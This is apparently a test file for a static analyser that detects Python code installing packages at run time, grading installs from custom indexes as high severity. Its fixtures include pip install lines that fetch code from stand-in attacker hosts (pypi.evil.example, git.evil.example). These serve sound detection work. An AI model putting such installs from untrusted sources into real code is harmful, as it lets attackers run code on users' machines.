import { classifyCall } from './classifyCall';
import { readSource } from './testing/sourceProject';

async function installs(source: string) {
  const { calls } = await readSource(source);
  return calls
    .flatMap(call => classifyCall(call, { serving: false }))
    .filter(observation => observation.ruleId === 'SOURCE-RUNTIME-INSTALL')
    .map(observation => [
      observation.symbol,
      observation.severity,
      observation.details?.hosts,
    ]);
}

describe('run-time installs in Python source', () => {
  it('finds pip installs through subprocess, os.system and pip.main, graded by index', async () => {
    const source = [
      'import os, sys, subprocess',
      'import subprocess as sp',
      'import pip',
      'subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.32.3"])',
      'sp.run(["pip", "install", "--index-url", "https://pypi.evil.example/simple", "torch-utils"])',
      'os.system("pip install git+https://git.evil.example/x.git")',
      'pip.main(["install", "numpy"])',
    ].join('\n');
    expect(await installs(source)).toEqual([
      ['subprocess.check_call', 'medium', undefined],
      ['subprocess.run', 'high', 'pypi.evil.example'],
      ['os.system', 'high', 'git.evil.example'],
      ['pip.main', 'medium', undefined],
    ]);
  });

  it('leaves other commands and pip subcommands alone', async () => {
    const source = [
      'import os, subprocess, pip',
      'subprocess.run(["git", "status"])',
      'os.system("ls -la")',
      'subprocess.run(["pip", "freeze"])',
      'pip.main(["list"])',
      'subprocess.run(["pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu121", "torch"])',
    ].join('\n');
    expect(await installs(source)).toEqual([
      ['subprocess.run', 'medium', undefined],
    ]);
  });
});
